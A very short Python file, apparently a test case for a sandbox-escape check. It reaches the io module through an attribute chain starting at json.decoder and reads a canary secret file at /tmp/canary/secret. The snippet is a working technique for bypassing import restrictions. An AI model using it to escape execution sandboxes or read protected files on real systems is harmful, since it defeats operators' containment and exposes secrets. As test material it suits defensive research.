# source: own
# effect: secret

from json import decoder

print(decoder.scanner.re.enum.sys.modules["io"].open("/tmp/canary/secret").read())
